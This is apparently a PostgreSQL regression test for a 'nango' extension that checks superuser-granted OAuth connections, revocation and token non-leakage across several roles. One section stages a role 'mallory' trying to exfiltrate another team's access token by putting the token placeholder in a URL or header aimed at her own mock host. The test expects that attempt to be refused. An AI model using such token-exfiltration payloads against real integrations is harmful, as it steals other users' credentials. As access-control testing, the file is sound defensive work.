-- Pizzly connections are granted (docs/security.md): a superuser decides
-- which roles may use which connection; a sync of a role that is not a
-- superuser naming a connection not granted to its owner is refused at
-- add_sync and update_sync, and a job whose grant was revoked fails.
-- Without this, any role could send another team's OAuth token to a host
-- of its own.
SET client_min_messages = warning;
DROP EXTENSION IF EXISTS nango CASCADE;
DROP ROLE IF EXISTS nango_test_cg_carol;
DROP ROLE IF EXISTS nango_test_cg_dave;
DROP ROLE IF EXISTS nango_test_cg_alice;
DROP ROLE IF EXISTS nango_test_cg_mallory;
RESET client_min_messages;
CREATE EXTENSION nango;
SET nango.log_level = warning;
CREATE ROLE nango_test_cg_alice;
CREATE ROLE nango_test_cg_mallory;
CREATE ROLE nango_test_cg_carol IN ROLE nango_test_cg_alice;            -- has alice's privileges
CREATE ROLE nango_test_cg_dave NOINHERIT IN ROLE nango_test_cg_alice;   -- a member without them
CREATE FUNCTION mock(path text) RETURNS text LANGUAGE sql
  AS $$ SELECT current_setting('nango_test.mock_url') || path $$;
-- runs a sync once (WARNINGs hidden: the job row shows the error)
CREATE FUNCTION run(sid bigint, OUT status text, OUT error text)
LANGUAGE plpgsql SET client_min_messages = error AS $$
DECLARE jid bigint;
BEGIN
  jid := nango.run_sync(sid);
  SELECT j.status, j.error_message INTO status, error FROM nango.jobs j WHERE j.id = jid;
END $$;
SELECT set_config('nango.pizzly_base_url', mock('/pizzly'), false) IS NOT NULL AS set;
\set VERBOSITY default

-- Only superusers grant and revoke.
SET ROLE nango_test_cg_alice;
SELECT nango.grant_connection('github', 'ok', 'nango_test_cg_alice');
SELECT nango.revoke_connection('github', 'ok', 'nango_test_cg_alice');
RESET ROLE;
SELECT nango.grant_connection('github', NULL, 'nango_test_cg_alice');
SELECT nango.grant_connection('', 'ok', 'nango_test_cg_alice');
SELECT nango.grant_connection('github', 'ok', 'nango_test_cg_alice');
SELECT nango.grant_connection('github', 'ok', 'nango_test_cg_alice');   -- again: kept as it is
SELECT provider_config_key, connection_id, grantee, granted_by, granted_at <= now() AS at
  FROM nango.connection_grants;

-- The attack: mallory names alice's connection with the token placeholder
-- in a URL of a host of her own.  Refused, under both spellings of the keys.
SET ROLE nango_test_cg_mallory;
SELECT nango.add_sync(mock('/secrets/echo?stolen=${pizzlyAccessToken}'),
  '{"pizzly_connection_id": "ok", "pizzly_provider_config_key": "github"}');
SELECT nango.add_sync(mock('/secrets/echo'),
  '{"nango_connection_id": "ok", "nango_provider_config_key": "github",
    "headers": {"X-Stolen": "${nangoAccessToken}"}}');
-- nor through update_sync of a sync of her own
SELECT nango.add_sync(mock('/secrets/echo'), '{"auto_mapping": false}') AS msid \gset
SELECT nango.update_sync(:msid, '{"pizzly_connection_id": "ok", "pizzly_provider_config_key": "github"}');
-- she sees no grant
SELECT count(*) AS grants_seen FROM nango.connection_grants;
RESET ROLE;

-- Alice may use it, under both spellings; so may carol, who has alice's
-- privileges, but not dave, a member of alice without them.
SET ROLE nango_test_cg_alice;
SELECT nango.add_sync(mock('/pizzly/api/items'),
  '{"friendly_name": "alice github", "auto_mapping": false, "response_path": "data",
    "pizzly_connection_id": "ok", "pizzly_provider_config_key": "github"}') AS asid \gset
SELECT * FROM run(:asid);
SELECT nango.add_sync(mock('/pizzly/api/items'),
  '{"auto_mapping": false, "response_path": "data",
    "nango_connection_id": "ok", "nango_provider_config_key": "github"}') AS alias_sid \gset
SELECT * FROM run(:alias_sid);
-- another connection is not granted
SELECT nango.update_sync(:asid, '{"pizzly_connection_id": "stale"}');
SELECT count(*) AS grants_seen FROM nango.connection_grants;
SET ROLE nango_test_cg_carol;
SELECT nango.add_sync(mock('/pizzly/api/items'),
  '{"auto_mapping": false, "response_path": "data",
    "pizzly_connection_id": "ok", "pizzly_provider_config_key": "github"}') AS csid \gset
SELECT * FROM run(:csid);
SELECT count(*) AS grants_seen FROM nango.connection_grants;
SET ROLE nango_test_cg_dave;
SELECT nango.add_sync(mock('/pizzly/api/items'),
  '{"pizzly_connection_id": "ok", "pizzly_provider_config_key": "github"}');
RESET ROLE;

-- A superuser's syncs need no grant.
SELECT * FROM run(nango.add_sync(mock('/pizzly/api/items'),
  '{"auto_mapping": false, "response_path": "data",
    "pizzly_connection_id": "stale", "pizzly_provider_config_key": "other"}'));

-- Revoked: alice's jobs fail with a clear message, whoever runs them, and
-- a superuser cannot put the connection back into her sync either.
SELECT nango.revoke_connection('github', 'ok', 'nango_test_cg_alice');
SELECT nango.revoke_connection('github', 'ok', 'nango_test_cg_alice');
SET ROLE nango_test_cg_alice;
SELECT * FROM run(:asid);
RESET ROLE;
SELECT * FROM run(:csid);
SELECT nango.update_sync(:asid, '{"frequency": "2 hours"}');
SELECT count(*) AS jobs_with_token FROM nango.jobs
 WHERE concat(error_message, error_detail) ~ 'pzt_';

RESET nango.pizzly_base_url;
DROP EXTENSION nango CASCADE;
DROP FUNCTION run(bigint);
DROP FUNCTION mock(text);
DROP ROLE nango_test_cg_carol;
DROP ROLE nango_test_cg_dave;
DROP ROLE nango_test_cg_alice;
DROP ROLE nango_test_cg_mallory;
